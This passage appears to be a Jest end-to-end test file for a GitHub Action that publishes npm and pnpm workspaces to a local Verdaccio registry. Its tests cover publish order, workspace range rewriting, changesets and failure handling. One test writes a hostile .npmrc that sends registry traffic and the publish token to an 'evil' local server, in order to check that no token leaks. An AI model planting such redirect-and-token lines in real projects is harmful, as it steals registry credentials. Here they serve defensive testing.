/**
 * `workspaces: true` end to end through dist/index.js (main, then post, as the runner runs them)
 * against Verdaccio on loopback, behind a small logging proxy that records every request (the
 * order and timing of the uploads) and can refuse one package's upload. npm, pnpm (the pinned
 * devDependency, for the real `pnpm pack` to compare with) and changesets run for real.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { execFile } from 'node:child_process'
import crypto from 'node:crypto'
import fs from 'node:fs'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import { promisify } from 'node:util'
import {
  ROOT,
  makeSandbox,
  removeSandboxes,
  runAction,
  writePackage,
  type RunResult,
  type Sandbox
} from '../scripts/lib/runner.mjs'
import { startVerdaccio, type Verdaccio } from '../scripts/lib/verdaccio.mjs'
import { findLeaks, leftovers, runSources } from './helpers/leaks.js'

const exec = promisify(execFile)
const PASSWORD = 'ci-password-1'
const PNPM = path.join(ROOT, 'node_modules', 'pnpm', 'bin', 'pnpm.cjs')
const CHANGESET = path.join(ROOT, 'node_modules', '@changesets', 'cli', 'bin.js')
/** A token of another shape than Verdaccio's: the proxy swaps it for the real one. */
const ALIAS = 'ab+cd/ef==gh+ij/kl==mn+op/qr==st+uv/wx=='

let registry: Verdaccio
let token: string
let proxy: LoggingProxy

interface Recorded {
  method: string
  /** The decoded path: `/@scope/name`, `/-/whoami`. */
  path: string
  /** The package an upload is for (a PUT of a packument), else undefined. */
  upload?: string
  start: number
  end: number
  status: number
}

/**
 * A loopback proxy in front of Verdaccio: records every request with its start and end, refuses
 * the uploads of the packages in `refuse` with a 403, and forwards the token alias as the real
 * token.
 */
class LoggingProxy {
  readonly requests: Recorded[] = []
  readonly refuse = new Set<string>()
  /** Uploads answered only after this many ms (so that a dependent sent too early would show). */
  readonly slow = new Map<string, number>()
  private server = http.createServer((req, res) => this.handle(req, res))
  private agent = new http.Agent({ keepAlive: true })
  url = ''

  async start(): Promise<void> {
    await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve))
    this.url = `http://127.0.0.1:${(this.server.address() as AddressInfo).port}/`
  }

  async close(): Promise<void> {
    this.server.closeAllConnections()
    this.agent.destroy()
    await new Promise((resolve) => this.server.close(resolve))
  }

  /** The uploads since the last `clear()`, in the order they were sent. */
  uploads(): Recorded[] {
    return this.requests.filter((r) => r.upload)
  }

  clear(): void {
    this.requests.length = 0
  }

  private handle(req: http.IncomingMessage, res: http.ServerResponse): void {
    const decoded = decodeURIComponent((req.url ?? '/').split('?')[0])
    const record: Recorded = {
      method: req.method ?? '',
      path: decoded,
      upload:
        req.method === 'PUT' && !decoded.startsWith('/-/') ? decoded.replace(/^\//, '') : undefined,
      start: performance.now(),
      end: 0,
      status: 0
    }
    this.requests.push(record)
    res.on('finish', () => {
      record.end = performance.now()
      record.status = res.statusCode
    })
    if (record.upload && this.refuse.has(record.upload)) {
      req.resume()
      req.on('end', () =>
        res
          .writeHead(403, { 'content-type': 'application/json' })
          .end(JSON.stringify({ error: 'uploads of this package are refused by the test proxy' }))
      )
      return
    }
    const delay = record.upload ? this.slow.get(record.upload) : undefined
    if (delay) {
      setTimeout(() => this.forward(req, res), delay)
      return
    }
    this.forward(req, res)
  }

  private forward(req: http.IncomingMessage, res: http.ServerResponse): void {
    const headers = { ...req.headers, host: new URL(registry.url).host }
    if (headers.authorization === `Bearer ${ALIAS}`) headers.authorization = `Bearer ${token}`
    const upstream = http.request(
      new URL(req.url ?? '/', registry.url),
      { method: req.method, headers, agent: this.agent },
      (answer) => {
        res.writeHead(answer.statusCode ?? 502, answer.headers)
        answer.pipe(res)
      }
    )
    upstream.on('error', (error) => res.destroy(error))
    req.pipe(upstream)
  }
}

beforeAll(async () => {
  registry = await startVerdaccio()
  const login = await registry.createUser('ci', PASSWORD)
  token = (await registry.createToken(login, PASSWORD)).token
  proxy = new LoggingProxy()
  await proxy.start()
})

afterAll(async () => {
  await proxy?.close()
  await registry?.stop()
  removeSandboxes()
})

type Manifest = Record<string, unknown>

/** A workspace under the sandbox's workspace dir: the root's package.json, members, extra files. */
function writeWorkspace(
  sandbox: Sandbox,
  dir: string,
  root: Manifest,
  members: Record<string, Manifest>,
  files: Record<string, string> = {}
): string {
  const rootDir = path.join(sandbox.workspace, dir)
  writePackage(rootDir, root, files)
  for (const [where, manifest] of Object.entries(members)) {
    writePackage(path.join(rootDir, where), manifest)
  }
  return rootDir
}

/** The action on the workspace at `dir` (relative to the sandbox's workspace), through the proxy. */
function publishWorkspace(
  sandbox: Sandbox,
  dir: string,
  inputs: Record<string, string> = {}
): Promise<RunResult> {
  proxy.clear()
  return runAction({
    inputs: { token, registry: proxy.url, package: dir, workspaces: 'true', ...inputs },
    sandbox
  })
}

interface PackageEntry {
  name: string
  version: string
  published: boolean
  status: string
  tag: string
  type: string
  integrity: string
  'tag-moved': boolean
  'error-code': string
}

function packagesOf(run: RunResult): PackageEntry[] {
  return JSON.parse(run.outputs.packages) as PackageEntry[]
}

function entry(run: RunResult, name: string): PackageEntry {
  const found = packagesOf(run).find((p) => p.name === name)
  if (!found) throw new Error(`${name} is not in the packages output: ${run.outputs.packages}`)
  return found
}

/** The workflow-command annotations of one kind (`warning`, `error`) in a step's stdout. */
function annotations(run: RunResult, kind: string): { title: string; message: string }[] {
  const unescape = (text: string): string =>
    text
      .replace(/%0A/g, '\n')
      .replace(/%0D/g, '\r')
      .replace(/%3A/g, ':')
      .replace(/%2C/g, ',')
      .replace(/%25/g, '%')
  return run.main.stdout.split('\n').flatMap((line) => {
    const match = new RegExp(`^::${kind}(?: ([^:]*))?::(.*)$`).exec(line)
    if (!match) return []
    const title = /title=([^,]*)/.exec(match[1] ?? '')?.[1] ?? ''
    return [{ title: unescape(title), message: unescape(match[2]) }]
  })
}

/** The manifest inside the tarball the registry serves for name@version. */
async function publishedManifest(name: string, version: string): Promise<Manifest> {
  const packument = await registry.packument(name)
  const tarball = packument?.versions[version]?.dist.tarball
  if (!tarball) throw new Error(`${name}@${version} is not on the registry`)
  // The tarball URL names the host the upload came through: ask Verdaccio itself.
  const url = new URL(new URL(tarball).pathname, registry.url)
  const response = await fetch(url)
  expect(response.status).toBe(200)
  return manifestInTarball(Buffer.from(await response.arrayBuffer()))
}

async function manifestInTarball(data: Buffer): Promise<Manifest> {
  const file = path.join(makeSandbox('nap-ws-tgz-').root, 'package.tgz')
  fs.writeFileSync(file, data)
  const { stdout } = await exec('tar', ['xzf', file, '-O', 'package/package.json'])
  return JSON.parse(stdout) as Manifest
}

const DEPENDENCY_FIELDS = [
  'dependencies',
  'devDependencies',
  'optionalDependencies',
  'peerDependencies'
]

function dependencyFields(manifest: Manifest): Manifest {
  return Object.fromEntries(
    DEPENDENCY_FIELDS.filter((f) => manifest[f] !== undefined).map((f) => [f, manifest[f]])
  )
}

/** sha256 of every file under `dir`, by relative path. */
function hashTree(dir: string): Record<string, string> {
  const hashes: Record<string, string> = {}
  for (const entry of fs.readdirSync(dir, { withFileTypes: true, recursive: true })) {
    if (!entry.isFile()) continue
    const full = path.join(entry.parentPath, entry.name)
    hashes[path.relative(dir, full)] = crypto
      .createHash('sha256')
      .update(fs.readFileSync(full))
      .digest('hex')
  }
  return hashes
}

/** An environment for the tools the test runs itself (pnpm, npm, changesets): all in the sandbox. */
function toolEnv(sandbox: Sandbox): NodeJS.ProcessEnv {
  const home = sandbox.home
  return {
    PATH: process.env['PATH'],
    HOME: home,
    XDG_CONFIG_HOME: path.join(home, '.config'),
    XDG_DATA_HOME: path.join(home, '.local', 'share'),
    XDG_CACHE_HOME: path.join(home, '.cache'),
    XDG_STATE_HOME: path.join(home, '.local', 'state'),
    npm_config_update_notifier: 'false',
    npm_config_cache: path.join(sandbox.root, 'npm-cache')
  }
}

/** Each upload of a dependent began after every upload of its dependencies had been answered. */
function expectLandedInOrder(uploads: Recorded[], edges: [string, string][]): void {
  for (const [dependent, dependency] of edges) {
    const after = uploads.find((u) => u.upload === dependent)
    const before = uploads.find((u) => u.upload === dependency)
    expect({ dependent, uploaded: Boolean(after) }).toEqual({ dependent, uploaded: true })
    expect({ dependency, uploaded: Boolean(before) }).toEqual({ dependency, uploaded: true })
    expect({
      [`${dependent} sent after ${dependency} answered`]: after!.start > before!.end
    }).toEqual({
      [`${dependent} sent after ${dependency} answered`]: true
    })
  }
}

describe('an npm workspace in one step', () => {
  const sandbox = makeSandbox()
  const members = {
    'packages/a': { name: '@npmws/a', version: '1.0.0' },
    'packages/b': { name: '@npmws/b', version: '1.0.0', dependencies: { '@npmws/a': '^1.0.0' } },
    'packages/c': { name: '@npmws/c', version: '1.0.0', dependencies: { '@npmws/b': '^1.0.0' } },
    'packages/d': { name: '@npmws/d', version: '1.0.0' },
    'packages/e': { name: '@npmws/e', version: '1.0.0', private: true }
  }
  beforeAll(() => {
    writeWorkspace(
      sandbox,
      'mono',
      { name: 'npmws-root', version: '0.0.0', private: true, workspaces: ['packages/*'] },
      members
    )
  })

  it('publishes every public package in dependency order, and lists the private ones as skipped', async () => {
    // The uploads of a and b are answered 3 s late: a dependent sent before they landed shows.
    proxy.slow.set('@npmws/a', 3000).set('@npmws/b', 3000)
    let run: RunResult
    try {
      run = await publishWorkspace(sandbox, 'mono')
    } finally {
      proxy.slow.clear()
    }
    expect(run.main.exitCode).toBe(0)
    expect(run.post?.exitCode).toBe(0)
    expect(run.outputs.published).toBe('true')
    expect(run.outputs['error-code']).toBe('')

    // The uploads: four, each dependent after its dependencies had landed.
    const uploads = proxy.uploads()
    expect(uploads.map((u) => u.upload).sort()).toEqual(
      ['@npmws/a', '@npmws/b', '@npmws/c', '@npmws/d'].sort()
    )
    expect(uploads.every((u) => u.status === 201)).toBe(true)
    expectLandedInOrder(uploads, [
      ['@npmws/b', '@npmws/a'],
      ['@npmws/c', '@npmws/b']
    ])

    // The output: publish order, every field.
    const packages = packagesOf(run)
    expect(packages.map((p) => p.name)).toEqual([
      '@npmws/a',
      '@npmws/d',
      '@npmws/b',
      '@npmws/c',
      '@npmws/e'
    ])
    for (const name of ['@npmws/a', '@npmws/b', '@npmws/c', '@npmws/d']) {
      const packument = await registry.packument(name)
      expect(entry(run, name)).toEqual({
        name,
        version: '1.0.0',
        published: true,
        status: 'published',
        tag: 'latest',
        type: 'initial',
        integrity: packument?.versions['1.0.0'].dist.integrity,
        'tag-moved': false,
        'error-code': ''
      })
    }
    expect(entry(run, '@npmws/e')).toMatchObject({
      published: false,
      status: 'skipped',
      integrity: '',
      'error-code': ''
    })
    // Neither the private member nor the private root reached the registry; the root (never a
    // workspace package in npm's model) is not listed.
    expect(await registry.packument('@npmws/e')).toBeUndefined()
    expect(await registry.packument('npmws-root')).toBeUndefined()
    expect(packages.some((p) => p.name === 'npmws-root')).toBe(false)
    // Single-package outputs stay empty for a workspace.
    expect(run.outputs.name).toBe('')
    expect(run.outputs.id).toBe('')

    // The summary: one row per package, the private one as skipped and why.
    expect(run.summary).toContain('Published 4 of 5 packages')
    // No link: a private package has no page on the registry.
    const row = /<tr><td><code>@npmws\/e<\/code><\/td>.*?<\/tr>/.exec(run.summary)?.[0]
    expect(row).toContain('skipped')
    expect(row).toContain('private')
    for (const name of ['a', 'b', 'c', 'd'])
      expect(run.summary).toContain(`<code>@npmws/${name}</code>`)
    expect(run.summary.match(/<h3>Token checks<\/h3>/g)).toHaveLength(1)
    expect(run.main.stdout).toContain('Skipping @npmws/e@1.0.0 (packages/e): private.')
    // One npm for the four uploads (npm publish --workspaces over links in the private dir).
    expect(run.main.stdout.match(/^::group::npm publish/gm)).toEqual(['::group::npm publish'])
    expect(run.main.stdout).toContain(
      '::group::npm publish --workspaces @npmws/a@1.0.0 @npmws/d@1.0.0 @npmws/b@1.0.0 @npmws/c@1.0.0'
    )
  })

  it('a rerun with nothing changed skips every package, uploads nothing and succeeds', async () => {
    const run = await publishWorkspace(sandbox, 'mono')
    expect(run.main.exitCode).toBe(0)
    expect(run.outputs.published).toBe('false')
    expect(run.outputs['error-code']).toBe('')
    expect(proxy.requests.filter((r) => r.method !== 'GET')).toEqual([])
    for (const p of packagesOf(run)) {
      expect({ name: p.name, status: p.status, published: p.published }).toEqual({
        name: p.name,
        status: 'skipped',
        published: false
      })
    }
    // What was compared is what the registry has.
    const packument = await registry.packument('@npmws/c')
    expect(entry(run, '@npmws/c').integrity).toBe(packument?.versions['1.0.0'].dist.integrity)
    expect(entry(run, '@npmws/c').type).toBe('same')
    expect(annotations(run, 'warning')).toEqual([])
    expect(run.summary).toContain('Nothing new to publish')
  })
})

describe('a pnpm workspace: workspace:, aliases and catalog: ranges', () => {
  const sandbox = makeSandbox()
  const members: Record<string, { name: string; version: string; private?: boolean } & Manifest> = {
    'packages/a': { name: '@pnws/a', version: '1.2.0' },
    'packages/b': {
      name: '@pnws/b',
      version: '2.0.0',
      dependencies: { '@pnws/a': 'workspace:^' }
    },
    'packages/c': {
      name: '@pnws/c',
      version: '3.0.0',
      dependencies: {
        '@pnws/b': 'workspace:*',
        '@pnws/a': 'workspace:~',
        'pnws-alias': 'workspace:@pnws/a@^',
        'pnws-ext': 'catalog:'
      },
      peerDependencies: { '@pnws/b': 'workspace:^' },
      devDependencies: { '@pnws/a': 'workspace:*' }
    },
    'packages/tools': {
      name: '@pnws/tools',
      version: '0.0.1',
      private: true,
      dependencies: { '@pnws/c': 'workspace:*' }
    }
  }
  const workspaceFile = 'packages:\n  - "packages/*"\ncatalog:\n  pnws-ext: ^7.0.0\n'
  let root: string

  beforeAll(async () => {
    // The catalog's package, on the registry already (a third-party dependency).
    const ext = makeSandbox()
    const userconfig = path.join(ext.root, 'npmrc')
    fs.writeFileSync(userconfig, `//127.0.0.1:${registry.port}/:_authToken=${token}\n`)
    const dir = writePackage(path.join(ext.workspace, 'ext'), {
      name: 'pnws-ext',
      version: '7.1.0'
    })
    await exec(
      'npm',
      ['publish', dir, '--userconfig', userconfig, '--registry', registry.url, '--ignore-scripts'],
      { env: toolEnv(ext) }
    )
    root = writeWorkspace(
      sandbox,
      'mono',
      { name: 'pnws-root', version: '0.0.0', private: true },
      members,
      { 'pnpm-workspace.yaml': workspaceFile }
    )
  })

  it('publishes the ranges exactly as `pnpm pack` rewrites them, without touching the workspace', async () => {
    const before = hashTree(root)
    const run = await publishWorkspace(sandbox, 'mono')
    expect(run.main.exitCode).toBe(0)
    expect(run.outputs.published).toBe('true')
    expect(hashTree(root)).toEqual(before)
    expect(packagesOf(run).map((p) => [p.name, p.status])).toEqual([
      ['@pnws/a', 'published'],
      ['@pnws/b', 'published'],
      ['@pnws/c', 'published'],
      ['@pnws/tools', 'skipped']
    ])
    expectLandedInOrder(proxy.uploads(), [
      ['@pnws/b', '@pnws/a'],
      ['@pnws/c', '@pnws/b']
    ])

    // Real pnpm on a copy of the same workspace (pnpm 10 reads the versions from node_modules).
    const tools = makeSandbox()
    const copy = path.join(tools.workspace, 'mono')
    fs.cpSync(root, copy, { recursive: true })
    const env = toolEnv(tools)
    await exec(
      process.execPath,
      [
        PNPM,
        'install',
        '--registry',
        registry.url,
        '--store-dir',
        path.join(tools.root, 'store'),
        '--config.update-notifier=false'
      ],
      { cwd: copy, env }
    )
    const packs = path.join(tools.root, 'packs')
    for (const [where, manifest] of Object.entries(members)) {
      if (manifest.private) continue
      const { stdout } = await exec(
        process.execPath,
        [PNPM, 'pack', '--json', '--pack-destination', packs],
        { cwd: path.join(copy, where), env }
      )
      const packed = JSON.parse(stdout.slice(stdout.indexOf('{'))) as { filename: string }
      const pnpmManifest = await manifestInTarball(fs.readFileSync(packed.filename))
      const ours = await publishedManifest(manifest.name, manifest.version)
      expect({ name: manifest.name, ...dependencyFields(ours) }).toEqual({
        name: manifest.name,
        ...dependencyFields(pnpmManifest)
      })
      expect(JSON.stringify(ours)).not.toMatch(/workspace:|catalog:/)
    }
    // The ranges, spelled out (so the test says what pnpm does).
    expect(dependencyFields(await publishedManifest('@pnws/c', '3.0.0'))).toEqual({
      dependencies: {
        '@pnws/b': '2.0.0',
        '@pnws/a': '~1.2.0',
        'pnws-alias': 'npm:@pnws/a@^1.2.0',
        'pnws-ext': '^7.0.0'
      },
      peerDependencies: { '@pnws/b': '^2.0.0' },
      devDependencies: { '@pnws/a': '1.2.0' }
    })

    // What a user of the package does: npm installs it from the registry.
    const user = makeSandbox()
    fs.writeFileSync(
      path.join(user.workspace, 'package.json'),
      '{"name":"consumer","version":"1.0.0"}'
    )
    const install = await exec(
      'npm',
      ['install', '@pnws/c@3.0.0', '--registry', registry.url, '--no-audit', '--no-fund'],
      { cwd: user.workspace, env: toolEnv(user) }
    ).catch((error: { stdout?: string; stderr?: string }) => error)
    expect(install.stderr ?? '').not.toContain('EUNSUPPORTEDPROTOCOL')
    const installed = (dir: string): Manifest =>
      JSON.parse(
        fs.readFileSync(path.join(user.workspace, 'node_modules', dir, 'package.json'), 'utf8')
      ) as Manifest
    expect(installed('@pnws/c').version).toBe('3.0.0')
    expect(installed('@pnws/b').version).toBe('2.0.0')
    expect(installed('@pnws/a').version).toBe('1.2.0')
    expect(installed('pnws-alias').name).toBe('@pnws/a')
    expect(installed('pnws-ext').version).toBe('7.1.0')
  })

  it('a single-package step on a member with workspace:^ publishes the rewritten range', async () => {
    const single = makeSandbox()
    writeWorkspace(
      single,
      'mono',
      { name: 'pnsingle-root', version: '0.0.0', private: true },
      {
        'packages/a': { name: '@pnsingle/a', version: '1.4.0' },
        'packages/b': {
          name: '@pnsingle/b',
          version: '1.0.0',
          dependencies: { '@pnsingle/a': 'workspace:^' }
        }
      },
      { 'pnpm-workspace.yaml': 'packages:\n  - "packages/*"\n' }
    )
    const before = hashTree(path.join(single.workspace, 'mono'))
    proxy.clear()
    const run = await runAction({
      inputs: { token, registry: proxy.url, package: 'mono/packages/b' },
      sandbox: single
    })
    expect(run.main.exitCode).toBe(0)
    expect(run.outputs.id).toBe('@pnsingle/b@1.0.0')
    expect(proxy.uploads().map((u) => u.upload)).toEqual(['@pnsingle/b'])
    expect((await publishedManifest('@pnsingle/b', '1.0.0')).dependencies).toEqual({
      '@pnsingle/a': '^1.4.0'
    })
    expect(hashTree(path.join(single.workspace, 'mono'))).toEqual(before)
    expect(run.main.stdout).toContain(
      '@pnsingle/b: dependencies.@pnsingle/a "workspace:^" is published as "^1.4.0".'
    )

    // The same package outside any workspace: nothing to resolve the range against.
    const lone = makeSandbox()
    fs.cpSync(
      path.join(single.workspace, 'mono', 'packages', 'b'),
      path.join(lone.workspace, 'lone-b'),
      { recursive: true }
    )
    fs.writeFileSync(
      path.join(lone.workspace, 'lone-b', 'package.json'),
      JSON.stringify({
        name: '@pnsingle/lone',
        version: '1.0.0',
        dependencies: { '@pnsingle/a': 'workspace:^' }
      })
    )
    proxy.clear()
    const refused = await runAction({
      inputs: { token, registry: proxy.url, package: 'lone-b' },
      sandbox: lone
    })
    expect(refused.main.exitCode).toBe(1)
    expect(refused.outputs['error-code']).toBe('PACKAGE_INVALID')
    const [error] = annotations(refused, 'error')
    expect(error.title).toBe('PACKAGE_INVALID')
    expect(error.message).toContain('workspace: or catalog: dependencies')
    expect(error.message).toContain('no workspace above it holds it')
    expect(proxy.uploads()).toEqual([])
    expect(await registry.packument('@pnsingle/lone')).toBeUndefined()
  })
})

describe('changesets: `changeset version` in the PR, this step on main', () => {
  it('publishes only the bumped package; a dependent whose packed range moved is skipped with a warning naming both causes', async () => {
    const sandbox = makeSandbox()
    const root = writeWorkspace(
      sandbox,
      'mono',
      { name: 'csws-root', version: '0.0.0', private: true },
      {
        'packages/a': { name: '@csws/a', version: '1.0.0' },
        'packages/b': {
          name: '@csws/b',
          version: '1.0.0',
          dependencies: { '@csws/a': 'workspace:^' }
        },
        'packages/c': { name: '@csws/c', version: '1.0.0' }
      },
      {
        'pnpm-workspace.yaml': 'packages:\n  - "packages/*"\n',
        '.changeset/config.json': JSON.stringify({
          changelog: false,
          commit: false,
          fixed: [],
          linked: [],
          access: 'public',
          baseBranch: 'main',
          updateInternalDependencies: 'patch',
          ignore: []
        })
      }
    )
    const first = await publishWorkspace(sandbox, 'mono')
    expect(first.main.exitCode).toBe(0)
    expect(proxy.uploads()).toHaveLength(3)

    // The release PR: a minor changeset for a, `changeset version` (b is not bumped: ^1.1.0 is
    // still inside b's published ^1.0.0... from changesets' point of view).
    fs.writeFileSync(
      path.join(root, '.changeset', 'feature.md'),
      '---\n"@csws/a": minor\n---\n\nA feature.\n'
    )
    await exec(process.execPath, [CHANGESET, 'version'], { cwd: root, env: toolEnv(sandbox) })
    const read = (where: string): Manifest =>
      JSON.parse(fs.readFileSync(path.join(root, where, 'package.json'), 'utf8')) as Manifest
    expect(read('packages/a').version).toBe('1.1.0')
    expect(read('packages/b').version).toBe('1.0.0')
    expect(read('packages/b').dependencies).toEqual({ '@csws/a': 'workspace:^' })

    // Main: the step again.
    const run = await publishWorkspace(sandbox, 'mono')
    expect(run.main.exitCode).toBe(0)
    expect(run.outputs.published).toBe('true')
    expect(proxy.uploads().map((u) => u.upload)).toEqual(['@csws/a'])
    expect(packagesOf(run).map((p) => [p.name, p.version, p.status])).toEqual([
      ['@csws/a', '1.1.0', 'published'],
      ['@csws/c', '1.0.0', 'skipped'],
      ['@csws/b', '1.0.0', 'skipped']
    ])
    expect(entry(run, '@csws/a').type).toBe('minor')
    const warnings = annotations(run, 'warning')
    expect(warnings).toHaveLength(1)
    expect(warnings[0].title).toContain('@csws/b@1.0.0')
    expect(warnings[0].message).toContain(
      'a workspace dependency was released since and its rewritten range moved'
    )
    expect(warnings[0].message).toContain('the version was not bumped after a change')
    // The registry keeps b as it was published.
    expect((await publishedManifest('@csws/b', '1.0.0')).dependencies).toEqual({
      '@csws/a': '^1.0.0'
    })
  })
})

describe('the token goes only to the registry, also when one npm publishes the workspace', () => {
  it('a hostile .npmrc at the workspace root and in the members cannot redirect the scoped packages', async () => {
    const hits: string[] = []
    const evil = http.createServer((req, res) => {
      hits.push(`${req.method} ${req.url} auth=${req.headers.authorization ?? ''}`)
      req.resume()
      res.writeHead(404, { 'content-type': 'application/json' }).end('{}')
    })
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve))
    try {
      const evilHost = `127.0.0.1:${(evil.address() as AddressInfo).port}`
      const hostile = [
        `registry=http://${evilHost}/`,
        `@hostilews:registry=http://${evilHost}/`,
        `//${evilHost}/:_authToken=\${NPM_AUTOMATION_PUBLISH_TOKEN}`,
        `//${evilHost}/:_authToken=\${INPUT_TOKEN}`,
        ''
      ].join('\n')
      const sandbox = makeSandbox()
      const root = writeWorkspace(
        sandbox,
        'mono',
        { name: 'hostilews-root', private: true, workspaces: ['packages/*'] },
        {
          'packages/a': { name: '@hostilews/a', version: '1.0.0' },
          'packages/b': {
            name: '@hostilews/b',
            version: '1.0.0',
            dependencies: { '@hostilews/a': '^1.0.0' }
          }
        },
        { '.npmrc': hostile }
      )
      for (const member of ['a', 'b'])
        fs.writeFileSync(path.join(root, 'packages', member, '.npmrc'), hostile)
      fs.writeFileSync(path.join(sandbox.workspace, '.npmrc'), hostile)
      const run = await publishWorkspace(sandbox, 'mono')
      expect(run.main.exitCode).toBe(0)
      expect(run.main.stdout).toContain('::group::npm publish --workspaces')
      expect(proxy.uploads().map((u) => u.upload)).toEqual(['@hostilews/a', '@hostilews/b'])
      expect(await registry.packument('@hostilews/b')).toBeDefined()
      expect(hits).toEqual([])
      expect(leftovers(run.sandbox.runnerTemp)).toEqual([])
      expect(findLeaks(token, runSources(run, [sandbox.root]))).toEqual([])
    } finally {
      evil.closeAllConnections()
      await new Promise((resolve) => evil.close(resolve))
    }
  })
})

describe('a failing member', () => {
  it('named `error` and refused by the registry, is not reported published (npm puts its failure under that key)', async () => {
    const EVERYONE = { access: '$all', publish: '$authenticated', unpublish: '$authenticated' }
    const refusing = await startVerdaccio({
      packages: { error: { access: '$all', publish: 'nobody' }, '@*/*': EVERYONE, '**': EVERYONE }
    })
    try {
      const login = await refusing.createUser('ci', PASSWORD)
      const { token: own } = await refusing.createToken(login, PASSWORD)
      const sandbox = makeSandbox()
      writeWorkspace(
        sandbox,
        'mono',
        { name: 'errws-root', private: true, workspaces: ['packages/*'] },
        {
          'packages/a': { name: 'errws-a', version: '1.0.0' },
          'packages/error': { name: 'error', version: '1.0.0' }
        }
      )
      const run = await runAction({
        inputs: { token: own, registry: refusing.url, package: 'mono', workspaces: 'true' },
        sandbox
      })
      expect(run.main.exitCode).not.toBe(0)
      expect(entry(run, 'errws-a')).toMatchObject({ published: true, status: 'published' })
      expect(entry(run, 'error')).toMatchObject({ published: false })
      expect(entry(run, 'error')['error-code']).not.toBe('')
      expect(await refusing.packument('error')).toBeUndefined()
    } finally {
      await refusing.stop()
    }
  })

  it('holds back its dependents, lets the independent ones publish, fails the step; a rerun publishes the rest', async () => {
    const sandbox = makeSandbox()
    writeWorkspace(
      sandbox,
      'mono',
      { name: 'failws-root', private: true, workspaces: ['packages/*'] },
      {
        'packages/a': { name: '@failws/a', version: '1.0.0' },
        'packages/b': {
          name: '@failws/b',
          version: '1.0.0',
          dependencies: { '@failws/a': '^1.0.0' }
        },
        'packages/c': {
          name: '@failws/c',
          version: '1.0.0',
          dependencies: { '@failws/b': '^1.0.0' }
        },
        'packages/d': { name: '@failws/d', version: '1.0.0' }
      }
    )
    proxy.refuse.add('@failws/b')
    let run: RunResult
    try {
      run = await publishWorkspace(sandbox, 'mono')
    } finally {
      proxy.refuse.delete('@failws/b')
    }
    expect(run.main.exitCode).toBe(1)
    expect(run.post?.exitCode).toBe(0)
    expect(run.outputs.published).toBe('true')
    expect(run.outputs['error-code']).toBe('PUBLISH_FORBIDDEN')
    expect(packagesOf(run).map((p) => [p.name, p.status, p.published, p['error-code']])).toEqual([
      ['@failws/a', 'published', true, ''],
      ['@failws/d', 'published', true, ''],
      ['@failws/b', 'failed', false, 'PUBLISH_FORBIDDEN'],
      ['@failws/c', 'held-back', false, '']
    ])
    // One npm took a, d and b in that order and stopped at b; b alone again (the one-by-one
    // path diagnoses it); c was never tried.
    expect(proxy.uploads().map((u) => [u.upload, u.status])).toEqual([
      ['@failws/a', 201],
      ['@failws/d', 201],
      ['@failws/b', 403],
      ['@failws/b', 403]
    ])
    expect(await registry.packument('@failws/c')).toBeUndefined()
    expect(await registry.packument('@failws/d')).toBeDefined()
    // Why c is held back, in the summary; one annotation for the one failure.
    expect(run.summary).toContain('held back')
    expect(run.summary).toContain('it depends on @failws/b, which did not publish')
    expect(run.summary).toContain('1 of 4 packages failed: PUBLISH_FORBIDDEN')
    const errors = annotations(run, 'error')
    expect(errors).toHaveLength(1)
    expect(errors[0].title).toBe('PUBLISH_FORBIDDEN')
    expect(errors[0].message).toContain('@failws/b@1.0.0')

    // The failure is gone: the rerun publishes what is left and no-ops what landed.
    const rerun = await publishWorkspace(sandbox, 'mono')
    expect(rerun.main.exitCode).toBe(0)
    expect(proxy.uploads().map((u) => u.upload)).toEqual(['@failws/b', '@failws/c'])
    expect(packagesOf(rerun).map((p) => [p.name, p.status])).toEqual([
      ['@failws/a', 'skipped'],
      ['@failws/d', 'skipped'],
      ['@failws/b', 'published'],
      ['@failws/c', 'published']
    ])
    expectLandedInOrder(proxy.uploads(), [['@failws/c', '@failws/b']])
  })

  it('a prepublishOnly that exits 1 holds back its dependents too', async () => {
    const sandbox = makeSandbox()
    writeWorkspace(
      sandbox,
      'mono',
      { name: 'scriptws-root', private: true, workspaces: ['packages/*'] },
      {
        'packages/a': {
          name: '@scriptws/a',
          version: '1.0.0',
          scripts: { prepublishOnly: 'node -e "process.exit(1)"' }
        },
        'packages/b': {
          name: '@scriptws/b',
          version: '1.0.0',
          dependencies: { '@scriptws/a': '1.0.0' }
        },
        'packages/c': { name: '@scriptws/c', version: '1.0.0' }
      }
    )
    const run = await publishWorkspace(sandbox, 'mono')
    expect(run.main.exitCode).toBe(1)
    expect(packagesOf(run).map((p) => [p.name, p.status, p['error-code']])).toEqual([
      ['@scriptws/a', 'failed', 'PUBLISH_FAILED'],
      ['@scriptws/c', 'published', ''],
      ['@scriptws/b', 'held-back', '']
    ])
    expect(proxy.uploads().map((u) => u.upload)).toEqual(['@scriptws/c'])
    expect(annotations(run, 'error')[0].message).toContain('"prepublishOnly" script')
  })
})

describe('refusals before anything is uploaded', () => {
  it('a dependency cycle is PACKAGE_INVALID naming it; nothing is uploaded', async () => {
    const sandbox = makeSandbox()
    writeWorkspace(
      sandbox,
      'mono',
      { name: 'cyclews-root', private: true, workspaces: ['packages/*'] },
      {
        'packages/x': {
          name: '@cyclews/x',
          version: '1.0.0',
          dependencies: { '@cyclews/y': '^1.0.0' }
        },
        'packages/y': {
          name: '@cyclews/y',
          version: '1.0.0',
          peerDependencies: { '@cyclews/x': '1.x' }
        },
        'packages/z': { name: '@cyclews/z', version: '1.0.0' }
      }
    )
    const run = await publishWorkspace(sandbox, 'mono')
    expect(run.main.exitCode).toBe(1)
    expect(run.outputs['error-code']).toBe('PACKAGE_INVALID')
    const [error] = annotations(run, 'error')
    expect(error.title).toBe('PACKAGE_INVALID')
    expect(error.message).toContain('cycle: @cyclews/x → @cyclews/y → @cyclews/x')
    expect(proxy.requests.filter((r) => r.method !== 'GET')).toEqual([])
    expect(await registry.packument('@cyclews/z')).toBeUndefined()
    expect(run.summary).toContain('Package refused: PACKAGE_INVALID')
  })

  it.each([
    [
      'an npm workspace root (private, with a version)',
      { name: 'rootws-npm', version: '1.0.0', private: true, workspaces: ['packages/*'] },
      {}
    ],
    [
      'a pnpm workspace root (no name, no version)',
      { description: 'the root' },
      { 'pnpm-workspace.yaml': 'packages:\n  - "packages/*"\n' }
    ]
  ])(
    '`package` at %s without `workspaces: true` says it is a workspace root and what to do',
    async (_kind, rootManifest, files) => {
      const sandbox = makeSandbox()
      writeWorkspace(
